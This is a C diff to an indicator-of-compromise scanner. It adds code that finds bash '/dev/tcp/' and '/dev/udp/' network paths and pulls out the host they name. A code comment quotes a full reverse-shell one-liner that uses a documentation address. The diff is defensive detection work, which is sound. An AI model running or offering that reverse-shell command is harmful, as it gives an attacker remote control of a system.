@@ -5734,6 +5734,23 @@ host_said(const struct ioc_scanner *sc, size_t a)
 	return 0;
 }
 
+/* The host of bash's network path at t[h..b), after "/dev/tcp/" or
+ * "/dev/udp/" (a reverse shell's "bash -i >& /dev/tcp/203.0.113.5/4444
+ * 0>&1"): an address or a name, its port after a slash left out. */
+static void
+dev_socket(struct ioc_scanner *sc, size_t h, size_t b)
+{
+	const char *t = sc->text.data;
+	const char *slash = memchr(t + h, '/', b - h);
+	size_t e = slash ? (size_t)(slash - t) : b;
+
+	if (e > h && (sc->cls[(unsigned char)t[h]] & C_DIGIT) &&
+	    try_ipv4(sc, h, e))
+		return;
+	if (e > h && domain_ok(sc, t + h, e - h, 1))
+		emit(sc, IOC_DOMAIN, sc->value.data, h, e, IOC_PUBLIC);
+}
+
 /* host_said, the question noted for the memo. */
 static int
 memo_host_said(struct ioc_scanner *sc, size_t a)
@@ -5779,6 +5796,12 @@ token(struct ioc_scanner *sc, size_t a, size_t *bp, unsigned marks)
 		return;
 	if (rule_url(sc, a))
 		return;
+	if ((marks & C_DOT) && b - a > 11 && t[a] == 'd' &&
+	    (memcmp(t + a, "dev/tcp/", 8) == 0 ||
+	    memcmp(t + a, "dev/udp/", 8) == 0)) {
+		dev_socket(sc, a + 8, b);
+		return;
+	}
 	if (b - a == 13 && t[b] == ',' && rule_cve(sc, a, b))
 		return;
 	if ((marks & C_COLON) && (k = word_colon(sc, a, b)) != 0) {
